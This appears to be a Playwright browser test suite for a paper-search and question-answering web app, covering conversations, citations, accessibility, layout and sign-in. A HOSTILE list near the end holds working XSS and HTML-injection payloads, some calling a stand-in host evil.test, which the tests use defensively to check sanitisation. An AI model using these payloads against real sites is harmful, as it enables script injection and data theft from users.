"""The page in a real browser, as a new user sees it. `make test-page` runs it.

Needs playwright and a Chromium, which PAPERTRAIL_TEST_CHROMIUM names.
"""

from __future__ import annotations

import json
import os
import signal
import tempfile
from contextlib import contextmanager
from pathlib import Path

import pytest
from page_app import OFF_TOPIC, QUESTION, SECOND, build, serve

from rag import Assistant, Paper
from rag.web.auth import add_account

pytestmark = pytest.mark.page
CHROMIUM = os.environ.get("PAPERTRAIL_TEST_CHROMIUM", "/usr/bin/chromium")
CACHE = tempfile.TemporaryDirectory()  # the bundled library is indexed once for all tests
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]


@contextmanager
def served(home, *options):
    """Serve the page in a process of its own and yield its address."""
    with serve(home, *options, cache=CACHE.name) as (_, address):
        yield address


@pytest.fixture(scope="module")
def library(tmp_path_factory):
    return build(tmp_path_factory.mktemp("library"))


@pytest.fixture(scope="module")
def address(library, tmp_path_factory):
    with served(tmp_path_factory.mktemp("home"), "--index", f"{library}/") as found:
        yield found


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as driver:
        launched = driver.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield launched
        launched.close()


@contextmanager
def opened(browser, address, **options):
    """Yield a page in a browser profile of its own. No request may leave and no script fail."""
    given = {"viewport": {"width": 1400, "height": 900}, **options}
    context = browser.new_context(**given)
    page = context.new_page()
    leaving, failing = [], []
    page.on(
        "request",
        lambda r: leaving.append(r.url) if not r.url.startswith((address, "data:", "blob:")) else 0,
    )
    page.on("pageerror", lambda error: failing.append(str(error)))
    page.goto(address)
    page.wait_for_selector(".state.ready, .login", timeout=300_000)
    try:
        yield page
        assert leaving == []
        assert failing == []
    finally:
        context.close()


def ask(page, question, number=1):
    """Ask in the box and wait for the whole answer."""
    page.fill("#question textarea", question)
    page.press("#question textarea", "Enter")
    page.wait_for_selector(f"#past #turn-{number} .facts", timeout=60_000)


@pytest.fixture
def page(browser, address):
    with opened(browser, address) as found:
        yield found


def test_an_example_is_answered_and_a_marker_shows_the_supporting_sentence(page) -> None:
    page.click(".example >> nth=0")  # "What is ..."
    page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
    ask(page, QUESTION, 2)
    page.click("#turn-2 a.marker >> nth=-1")
    card = page.locator("#turn-2-source-1")
    assert "here" in card.get_attribute("class")
    assert card.locator("mark.here").inner_text() in page.locator("#turn-2").inner_text()
    mark, frame = card.locator("mark.here").bounding_box(), card.locator(".abstract").bounding_box()
    assert frame["y"] <= mark["y"] < frame["y"] + frame["height"]


def test_the_filter_that_was_read_in_a_question_can_be_left_out(page) -> None:
    ask(page, "What do papers by Clark say about speed?")
    assert "Only papers by Clark" in page.locator("#turn-1").inner_text()
    page.click("#turn-1 .understood button")
    page.wait_for_selector("#turn-1 .understood", state="detached")
    page.wait_for_selector("#past #turn-1 .facts")
    assert page.locator("#past .turn").count() == 1


def test_the_list_switch_lists_the_papers_of_a_subject(page) -> None:
    page.check("#as-list input")
    assert page.get_attribute("#question textarea", "placeholder") == "Name a subject"
    ask(page, "sparse attention")
    assert page.locator("#turn-1 li .score").count() == 1
    assert "a sparse attention for long text" in page.locator("#turn-1 li .snippet").inner_text()


def test_the_conversation_is_there_after_a_reload_and_can_be_renamed_and_deleted(page) -> None:
    ask(page, QUESTION)
    page.reload()
    page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
    assert QUESTION in page.locator("#list").inner_text()
    page.click("#list li button >> nth=1")
    page.fill("#list input", "On speed")
    page.press("#list input", "Enter")
    page.wait_for_selector("#list li .title:has-text('On speed')")
    page.fill("#find", "nothing like it")
    assert "No conversation matches." in page.locator("#list").inner_text()
    page.fill("#find", "SPEED")
    page.click("#list li button >> nth=2")
    page.click("#list li button:has-text('Delete')")
    page.wait_for_selector(".welcome")
    page.fill("#find", "")
    assert "None yet." in page.locator("#list").inner_text()


@pytest.mark.parametrize("way", ["Escape", "Cancel"])
def test_editing_a_question_can_be_left_and_the_box_is_as_it_was(page, way) -> None:
    ask(page, QUESTION)
    page.fill("#question textarea", "half a thou")
    page.click("#turn-1 [data-act=edit]")
    page.wait_for_selector("#note :text('Editing question 1')")
    assert page.input_value("#question textarea") == QUESTION
    if way == "Escape":
        page.keyboard.press("Escape")
    else:
        page.click("#note button:has-text('Cancel')")
    page.wait_for_selector("#note button", state="detached")
    assert page.input_value("#question textarea") == "half a thou"
    ask(page, SECOND, 2)
    assert QUESTION in page.locator("#turn-1").inner_text()
    page.click("#turn-1 [data-act=edit]")
    page.wait_for_selector("#note button")
    page.fill("#question textarea", "what is ZORP?")
    page.press("#question textarea", "Enter")
    page.wait_for_selector("#past #turn-1:has-text('what is ZORP?') .facts", timeout=60_000)
    assert page.locator("#past .turn").count() == 1
    assert page.input_value("#question textarea") == ""


def test_citations_and_conversations_can_be_taken_away(page) -> None:
    ask(page, QUESTION)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page.click("#turn-1-source-1 button:has-text('BibTeX')")
    page.wait_for_selector("#said.shown")
    assert "@misc{zorp-1," in page.evaluate("navigator.clipboard.readText()")
    with page.expect_download() as found:
        page.click("[data-form=markdown]")
    text = Path(found.value.path()).read_text("utf-8")
    assert found.value.suggested_filename == "conversation.md"
    assert "## References\n\n1. Ada Clark and Bo Li (2021). ZORP" in text
    with page.expect_download() as found:
        page.click("[data-form=json]")
    saved = json.loads(Path(found.value.path()).read_text("utf-8"))
    assert saved["turns"][0]["question"] == QUESTION


def test_two_browsers_see_their_own_conversations_only(browser, address) -> None:
    with opened(browser, address) as one, opened(browser, address) as other:
        ask(one, QUESTION)
        ask(other, SECOND)
        assert "ZORP" not in other.locator("#past").inner_text()
        assert "QUUX" not in one.locator("#list").inner_text()


def test_two_tabs_of_one_browser_lose_nothing_of_each_other(page, address) -> None:
    ask(page, QUESTION)
    other = page.context.new_page()
    other.goto(address)
    other.wait_for_selector("#past #turn-1 .facts", timeout=60_000)  # the same conversation
    other.click("#list li button >> nth=1")
    other.fill("#list input", "On speed")
    other.press("#list input", "Enter")
    page.wait_for_selector("#list .title:has-text('On speed')")
    ask(page, SECOND, 2)
    assert page.locator("#list .title").all_inner_texts() == ["On speed"]
    ask(other, "how many tokens does ZORP attend to?", 2)
    other.wait_for_selector("#note :text('another tab')")
    page.wait_for_selector("#list li:nth-child(2)")
    other.click("#list .title >> nth=1")
    other.wait_for_selector("#past #turn-2:has-text('QUUX')")
    other.click("#list .title >> nth=0")
    other.wait_for_selector("#past #turn-2:has-text('64 tokens')")
    other.click("[data-act=new]")
    ask(other, OFF_TOPIC)
    page.wait_for_selector("#list li:nth-child(3)")


def test_a_thumb_is_kept_at_once_and_a_comment_amends_it(page) -> None:
    ask(page, QUESTION)
    page.click("#turn-1 .thumb[data-thumb=up]")
    page.wait_for_selector("#said.shown:has-text('kept on this server')")
    page.wait_for_selector("#said:not(.shown)", state="attached")
    page.fill(".comment input", "just right")
    page.press(".comment input", "Enter")
    page.wait_for_selector("#said.shown:has-text('kept on this server')")


def test_the_page_is_used_with_the_keyboard_alone(page) -> None:
    page.locator("body").click(position={"x": 5, "y": 5})
    page.keyboard.press("/")
    page.keyboard.type(QUESTION)
    page.keyboard.press("Enter")
    page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
    page.focus("#turn-1 a.marker >> nth=0")
    page.keyboard.press("Enter")
    page.wait_for_selector("#turn-1-source-1.here mark.here")
    assert page.evaluate("document.activeElement.id") == "turn-1-source-1"


SMALL = """() => [...document.querySelectorAll('body *')].filter(each => {
  const box = each.getBoundingClientRect();
  const own = [...each.childNodes].some(n => n.nodeType === 3 && n.textContent.trim());
  return own && box.width > 1 && box.height > 1 && parseFloat(getComputedStyle(each).fontSize) < 14;
}).map(each => each.outerHTML.slice(0, 120))"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_narrow_screen_has_no_sideways_scrolling_and_no_small_text(
    browser, address, scheme
) -> None:
    narrow = {"viewport": {"width": 380, "height": 800}, "color_scheme": scheme}
    with opened(browser, address, **narrow) as page:
        ask(page, QUESTION)
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= 380
        assert page.evaluate(SMALL) == []
        page.click("#turn-1 a.marker >> nth=0")
        page.wait_for_timeout(300)
        assert page.locator("#turn-1-source-1 mark.here").is_visible()


MANY = "Which papers are about ZORP, and which about QUUX and its curriculum of samples?"


def in_sight(page, selector):
    box = page.locator(selector).bounding_box()
    return box["y"] + box["height"] > 0 and box["y"] < page.viewport_size["height"]


def test_on_a_narrow_screen_the_answer_stays_in_sight_and_sources_lead_back(
    browser, address
) -> None:
    with opened(browser, address, viewport={"width": 380, "height": 500}) as page:
        assert not page.locator("#find").is_visible()
        for number, question in enumerate((QUESTION, MANY, QUESTION), start=1):
            ask(page, question, number)
            page.wait_for_timeout(300)
            assert in_sight(page, f"#turn-{number} .facts")
        page.click("#turn-3 a.marker >> nth=0")
        page.wait_for_selector("#turn-3-source-1.here")
        assert not in_sight(page, "#turn-3 .text")
        page.mouse.wheel(0, 100)
        page.wait_for_timeout(300)
        assert in_sight(page, "#sources section[data-turn='3'] .back")
        page.click("#sources section[data-turn='3'] .back")
        assert in_sight(page, "#turn-3 a.marker >> nth=0")
        page.click("#turn-1 [data-act=edit]")
        page.wait_for_selector("#note button")
        assert in_sight(page, "#note button")
        page.click("#note button")
        page.click("#turn-1 [data-show]")
        page.click("#sources section[data-turn='1'] .back")
        assert in_sight(page, "#turn-1 [data-show]")


def test_the_look_can_be_switched_and_is_remembered(page) -> None:
    dark = "document.body.classList.contains('dark')"
    before = page.evaluate(dark)
    page.click("#theme")
    assert page.evaluate(dark) is not before
    page.reload()
    page.wait_for_selector(".state.ready")
    page.wait_for_timeout(300)
    assert page.evaluate(dark) is not before


UNLABELLED = """() => [...document.querySelectorAll('button, input, textarea, select, a[href]')]
  .filter(each => each.checkVisibility({visibilityProperty: true}))
  .filter(each => !(each.getAttribute('aria-label') || each.getAttribute('aria-labelledby')
    || each.title || each.innerText?.trim() || each.labels?.length))
  .map(each => each.outerHTML.slice(0, 160))"""


def test_everything_that_can_be_used_has_a_name_for_screen_readers(page) -> None:
    ask(page, QUESTION)
    assert page.evaluate(UNLABELLED) == []


def test_an_answer_can_be_stopped_and_asked_again(browser, library, tmp_path) -> None:
    from model_server import ModelServer, Step

    text = " ".join(f"ZORP is {number} times faster [1]." for number in range(200))
    slow = Step(text=text, size=6, between_s=0.05)
    with ModelServer(slow) as server:
        options = ("--index", f"{library}/", "--model", "tester", "--url", server.url)
        with served(tmp_path, *options) as address, opened(browser, address) as page:
            page.fill("#question textarea", QUESTION)
            page.press("#question textarea", "Enter")
            page.wait_for_selector("#live .marker.open", timeout=60_000)
            page.keyboard.press("Escape")
            page.wait_for_selector("#live .stopped")
            assert server.disconnected.wait(5)
            server.steps[:] = [Step(text="ZORP is 3.5 times faster than BERT [1].")]
            page.click("#live [data-act=retry]")
            page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
            assert "model: tester" in page.locator("#turn-1").inner_text()


def test_the_client_of_gradio_asks_and_searches(address) -> None:
    from gradio_client import Client

    client = Client(address, verbose=False)
    answer = client.predict(question=QUESTION, k=2, api_name="/ask")
    assert answer["status"] == "answered"
    hits = client.predict(question=QUESTION, k=1, api_name="/search")["hits"]
    assert [hit["paper"]["id"] for hit in hits] == ["zorp-1"]
    with pytest.raises(Exception, match="whole number"):
        client.predict(question=QUESTION, k=1000, api_name="/search")


def go_to(page, tab):
    page.click(f"button[role=tab]:has-text('{tab}')")


LONG = "We begin. " * 60 + "FROB loops seven times. " + "We go on. " * 60


@pytest.fixture(scope="module")
def long_papers(tmp_path_factory):
    folder = tmp_path_factory.mktemp("long")
    paper = Paper("frob-1", "FROB: Loops", LONG, authors=("محمد علي", "Örjan Ek"), year=2012)
    other = Paper("wugg-2", "WUGG: A Model", "WUGG is small.", venue="A long name of a venue " * 4)
    Assistant.build([paper, other], folder / "data" / "libraries" / ("x" * 48)).close()
    with served(folder) as found:
        yield found


def test_a_long_abstract_shows_its_quote_and_that_it_continues(browser, long_papers) -> None:
    with opened(browser, long_papers) as page:
        go_to(page, "Library")
        page.select_option("#library", "x" * 48)
        page.wait_for_selector("#top :text('2 papers')")
        go_to(page, "Ask")
        ask(page, "how many times does FROB loop?")
        page.wait_for_selector("#turn-1-source-1 .abstract.above.below")
        mark = page.locator("#turn-1-source-1 mark").first.bounding_box()
        frame = page.locator("#turn-1-source-1 .abstract").bounding_box()
        assert frame["y"] <= mark["y"] < frame["y"] + frame["height"]
        page.locator("#turn-1-source-1 .abstract").evaluate("it => it.scrollTo(0, 1e6)")
        page.wait_for_selector("#turn-1-source-1 .abstract.above:not(.below)")


def test_the_library_fits_a_narrow_screen_and_the_list_folds_as_it_narrows(
    browser, long_papers
) -> None:
    with opened(browser, long_papers) as page:
        assert page.locator("#find").is_visible()
        page.set_viewport_size({"width": 380, "height": 800})
        page.wait_for_selector("#find", state="hidden")
        go_to(page, "Library")
        page.select_option("#library", "x" * 48)
        page.wait_for_selector("#table :text('FROB: Loops')")
        for each in ("#library", "#table .authors >> nth=1", "#table .venue >> nth=2"):
            box = page.locator(each).bounding_box()
            assert box["x"] >= 0
            assert box["x"] + box["width"] <= 380
        assert page.evaluate("document.querySelector('#table .wide').scrollWidth") <= 380
        # of four short lines: title, authors, year and source
        assert page.locator("#table tr:has-text('FROB')").bounding_box()["height"] < 130
        page.set_viewport_size({"width": 1280, "height": 800})
        go_to(page, "Ask")
        assert page.locator("#find").is_visible()


def test_papers_are_pasted_and_uploaded_and_then_asked_about(browser, tmp_path) -> None:
    bibtex = "@misc{w, title = {WUGG: Tiny Models}, abstract = {WUGG has 12 parameters.}}"
    upload = tmp_path / "frob.ris"
    upload.write_text("TY  - JOUR\nTI  - FROB: Loops\nAB  - FROB loops seven times.\nER  - \n")
    with served(tmp_path) as address, opened(browser, address) as page:
        go_to(page, "Library")
        page.click("#adding summary")
        page.fill("#pasted", bibtex)
        page.set_input_files("#files", str(upload))
        page.fill("#name", "My own")
        page.click("#add-papers button")
        page.wait_for_selector("#report :text('2 added')", timeout=60_000)
        page.wait_for_selector("#table :text('FROB: Loops')")
        assert "library My own, 2 papers" in page.locator("#top").inner_text()
        page.check("#table tr:has-text('FROB') input")
        page.click("text=Ask about these only")
        page.wait_for_selector("#scope :text('Asking 1 selected paper only')")
        ask(page, "how many times does FROB loop?")
        assert "seven times" in page.locator("#turn-1 .text").inner_text()
        go_to(page, "Library")
        page.click("text=Remove from library")
        page.click("#chosen button:has-text('Keep')")
        assert page.locator("#chosen .sure").count() == 0
        assert page.locator("#table tr:has-text('FROB')").count() == 1
        page.click("text=Remove from library")
        page.click("#chosen .sure button:has-text('Remove')")
        page.wait_for_selector("#report :text('1 removed')")
        page.select_option("#library", "")
        page.wait_for_selector("#top :text('251 papers')")


def test_a_reload_returns_to_the_library_that_was_chosen(browser, tmp_path) -> None:
    bibtex = "@misc{w, title = {WUGG: Tiny Models}, abstract = {WUGG has 12 parameters.}}"
    with served(tmp_path) as address, opened(browser, address) as page:
        go_to(page, "Library")
        page.click("#adding summary")
        page.fill("#pasted", bibtex)
        page.fill("#name", "My own")
        page.click("#add-papers button")
        page.wait_for_selector("#report :text('1 added')", timeout=60_000)
        go_to(page, "Ask")
        ask(page, "how many parameters does WUGG have?")
        for _ in range(2):
            page.reload()
            page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
            page.wait_for_selector("#top .ready:has-text('library My own, 1 paper')")
            assert page.locator("#turn-1 a.marker.fact").count() == 1
            assert "left the library" not in page.locator("#past").inner_text()
            assert page.locator("#note").inner_text().strip() == ""
        go_to(page, "Library")
        assert page.input_value("#library") == "My own"
        page.select_option("#library", "")
        page.wait_for_selector("#top :text('251 papers')")
        page.reload()
        page.wait_for_selector("#top :text('251 papers')")
        page.wait_for_selector(".example")
        assert page.locator("#past .turn").count() == 0


def test_settings_are_explained_kept_and_used(page) -> None:
    go_to(page, "Settings")
    page.fill("#set-sentences", "1")
    page.wait_for_selector("#choices output:has-text('1')")
    page.wait_for_timeout(500)
    page.reload()
    page.wait_for_selector(".state.ready")
    go_to(page, "Settings")
    page.wait_for_selector("#set-sentences[value='1']")
    assert "fixed by the server" in page.locator("#choices").inner_text()
    go_to(page, "Ask")
    ask(page, QUESTION)
    assert page.locator("#turn-1 a.marker").count() == 1


RUN = "window.hacked=1;fetch('http://evil.test/')"
HOSTILE = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}//",
    "<img src=http://evil.test/pixel.png>",
    f'"><svg/onload="{RUN}">',
    f"'><svg onload='{RUN}'>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=http://evil.test/></iframe>",
    f'<a href="javascript:{RUN}">click</a>',
    f"[click](javascript:{RUN})",
    "![pixel](http://evil.test/md.png)",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<style>@import 'http://evil.test/b.css';*{display:none}</style>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<form action=http://evil.test/><button>send</button></form>",
    "<object data=http://evil.test/></object><embed src=http://evil.test/>",
    "${window.hacked=1}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "{{{window.hacked=1}}} @children",
    "{{#each value}}<img src=x onerror=window.hacked=1>{{/each}}",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f'" onmouseover="{RUN}" data-x="',
    f"' autofocus onfocus='{RUN}' '",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"\u202e<b onclick={RUN}>gnp.exe",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
]
COUNT_MADE = """document.querySelectorAll(['past', 'sources', 'table', 'list', 'report']
  .flatMap(id => ['img', 'script', 'iframe', 'svg', 'style', 'form', 'object', 'base', 'video']
    .map(tag => `#${id} ${tag}`)).join()).length"""


def hostile_library(folder):
    """Build a library of papers whose every field is hostile."""
    papers = [
        Paper(
            f'p{n}"><img src=x onerror={RUN}>',
            f"FROB{n}: {text}",
            f"FROB{n} measures {n + 100} units. {text} It ends.",
            authors=(text, f"Ada {n}"),
            venue=text,
            url=f"http://evil.test/{n}" if n % 2 else "javascript:window.hacked=1",
            sources=(text,),
        )
        for n, text in enumerate(HOSTILE)
    ]
    Assistant.build(papers, folder).close()
    return f"{folder}/"


def test_no_hostile_string_runs_a_script_or_sends_a_request(browser, tmp_path) -> None:
    from model_server import ModelServer, Step

    assert len(HOSTILE) >= 30
    replies = [Step(text=" ".join(f"{h} [1]." for h in HOSTILE[n : n + 13])) for n in (0, 13, 26)]
    library = hostile_library(tmp_path / "library")
    with ModelServer(*replies) as server:
        options = ("--index", library, "--model", HOSTILE[2], "--url", server.url)
        with served(tmp_path, *options) as address, opened(browser, address) as page:
            dialogs = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            for turn, number in enumerate((3, 14, 27), start=1):
                text = " ".join(HOSTILE[13 * turn - 13 : 13 * turn])
                ask(page, f"how many units does FROB{number} measure? {text}"[:1990], turn)
            for marker in page.locator("#past a.marker").all()[:12]:
                marker.click()
            page.locator("#sources section:not([hidden]) details").first.click()
            go_to(page, "Library")
            for row in page.locator("#table summary").all():
                row.click()
            page.check("#table input >> nth=0")
            page.click("#adding summary")
            files = [
                {"name": text, "mimeType": "text/plain", "buffer": b"@misc{x, title = {}}"}
                for text in HOSTILE[:20]
            ]
            page.set_input_files("#files", files)
            page.click("#add-papers button")
            page.wait_for_selector("#report :text('20 refused')", timeout=60_000)
            assert page.evaluate(COUNT_MADE) == 0
            go_to(page, "Ask")
            page.click("#list li button >> nth=1")
            page.fill("#list input", HOSTILE[2])
            page.press("#list input", "Enter")
            page.locator("#list .title").first.hover()
            page.reload()
            page.wait_for_selector("#past #turn-3 .facts", timeout=60_000)
            page.wait_for_timeout(500)
            assert page.evaluate("window.hacked") is None
            assert page.evaluate(COUNT_MADE) == 0
            assert dialogs == []


def test_a_saved_conversation_that_somebody_changed_is_harmless(page) -> None:
    ask(page, QUESTION)
    page.wait_for_timeout(300)
    page.evaluate(
        """(text) => { for (const name of Object.keys(localStorage)) {
          if (!name.startsWith('papertrail.conversation.')) continue;
          const kept = JSON.parse(localStorage[name]);
          kept.title = text; kept.turns[0].question = text;
          kept.turns[0].answer.question = text;
          kept.turns[0].answer.warnings = [text];
          localStorage[name] = JSON.stringify(kept);
        } }""",
        HOSTILE[2],
    )
    page.reload()
    page.wait_for_selector("#past #turn-1 .facts", timeout=60_000)
    assert HOSTILE[2] in page.locator("#turn-1 .question").inner_text()
    assert page.evaluate("window.hacked") is None


def test_users_sign_in_keep_conversations_on_the_server_and_see_only_their_own(
    browser, library, tmp_path
) -> None:
    accounts = tmp_path / "accounts"
    for name in ("ada", "bob"):
        add_account(accounts, name, "correct horse")
    options = ("--index", f"{library}/", "--users", str(accounts))
    own = "Object.keys(localStorage).filter(name => name.includes('conversation'))"
    with served(tmp_path, *options) as address:
        for name, before, after in (("ada", 0, 1), ("bob", 0, 0), ("ada", 1, 1)):
            with opened(browser, address) as page:
                page.fill("[name=name]", name)
                page.fill("[name=password]", "correct horse")
                page.click("button")
                page.wait_for_selector(".state.ready", timeout=60_000)
                page.wait_for_timeout(800)
                assert page.locator("#list .title").count() == before
                if before < after:
                    ask(page, QUESTION)
                    page.wait_for_selector("#list .title")
                if after:
                    page.click("#list .title")
                    page.wait_for_selector("#past #turn-1 .facts")
                assert page.evaluate(own) == []
                page.click("text=Sign out")
                page.wait_for_selector(".login")


@pytest.mark.parametrize(
    ("end", "said"),
    [
        (signal.SIGTERM, "What was indexed is kept"),
        (signal.SIGKILL, "What was finished is kept"),
    ],
)
def test_a_page_whose_server_stops_says_so(browser, tmp_path, end, said) -> None:
    rows = [{"title": f"Paper {i}", "abstract": f"Words on {i}. " * 60} for i in range(1000)]
    (tmp_path / "many.jsonl").write_text("\n".join(map(json.dumps, rows)))
    serving = serve(tmp_path, "--index", f"{build(tmp_path)}/", cache=CACHE.name)
    with serving as (server, address), opened(browser, address) as page:
        page.get_by_role("tab", name="Library").click()
        page.get_by_text("Add papers").first.click()
        page.set_input_files("#files", tmp_path / "many.jsonl")
        page.click("#add-papers button")
        page.wait_for_selector("#report :text('Indexing: 32 of 1,000 papers')", timeout=60_000)
        server.send_signal(end)
        page.wait_for_selector(f"#report :text('{said}')", timeout=60_000)
        assert "Indexing" not in page.inner_text("#report")
